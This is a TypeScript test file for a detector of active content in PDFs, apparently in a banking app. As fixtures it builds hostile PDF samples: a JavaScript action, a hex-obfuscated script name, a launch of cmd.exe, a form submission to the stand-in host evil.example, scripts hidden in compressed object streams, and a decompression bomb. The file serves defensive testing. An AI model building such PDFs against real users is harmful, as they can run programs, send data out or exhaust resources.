import { deflateSync } from 'node:zlib';
import { drawDocument } from '../pdf/draw-document.js';
import { isActivePdf } from './active-pdf.js';

const pdf = (...objects: readonly (string | Buffer)[]): Buffer =>
  Buffer.concat([Buffer.from('%PDF-1.7\n'), ...objects.map((object) => Buffer.from(object)), Buffer.from('\n%%EOF')]);

/** An object stream with objects in it, as the newer format of PDF packs them. */
function packed(objects: string, dictionary = '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode'): Buffer {
  const body = deflateSync(objects);
  const head = Buffer.from(`1 0 obj\n<< ${dictionary} /Length ${body.length} >>\nstream\r\n`);
  return Buffer.concat([head, body, Buffer.from('\nendstream\nendobj\n')]);
}

const script = '2 0 << /S /JavaScript /JS (app.alert(1)) >>';

it.each([
  ['a script', pdf(`1 0 obj ${script} endobj`)],
  ['a script whose name is written in digits', pdf('1 0 obj << /S /#4aavaScr#69p#74 /JS (x) >> endobj')],
  ['a program to start', pdf('1 0 obj << /S /Launch /F (cmd.exe) >> endobj')],
  ['a file in it', pdf('1 0 obj << /Type /EmbeddedFile >> endobj')],
  ['a form that sends itself', pdf('1 0 obj << /S/SubmitForm/F(https://evil.example) >> endobj')],
  ['a script in packed objects', pdf(packed(script))],
  ['a script in packed objects without their type', pdf(packed(script, '/N 1 /First 4 /Filter/FlateDecode'))],
  ['objects packed in an unusual way', pdf(packed('x', '/Type /ObjStm /Filter [/LZWDecode /FlateDecode]'))],
  ['objects packed with a predictor', pdf(packed('x', '/Type /ObjStm /Filter /FlateDecode /DecodeParms << >>'))],
  ['objects that cannot be unpacked', pdf('1 0 obj << /Type /ObjStm /Filter /FlateDecode >>\nstream\nxxxx\nendstream')],
  ['encryption', pdf('trailer << /Encrypt 5 0 R >>')],
  ['more streams than a document has', pdf(' /First stream\n'.repeat(30_000))],
  ['objects that unpack without end', pdf(packed('x'.repeat(17 * 1024 * 1024)))],
])('E19: finds %s', (_, content) => {
  expect(isActivePdf(content)).toBe(true);
});

it.each([
  ['packed objects', pdf(packed('2 0 << /Type /Page >>'))],
  ['an action that opens a page', pdf('1 0 obj << /OpenAction [3 0 R /Fit] >> endobj')],
  ['words in its text', pdf('1 0 obj (JavaScript, Launch and EmbeddedFile) endobj')],
  ['names that only begin so', pdf('1 0 obj << /LaunchPad 1 /JavaScripts 2 >> endobj')],
])('E19: lets a document with %s pass', (_, content) => {
  expect(isActivePdf(content)).toBe(false);
});

it('E19: lets a document pass as the bank itself draws it', async () => {
  const blocks = [{ kind: 'paragraph', text: 'Balance: 1' }] as const;
  expect(isActivePdf(await drawDocument({ title: 'Statement', language: 'en', blocks }))).toBe(false);
});
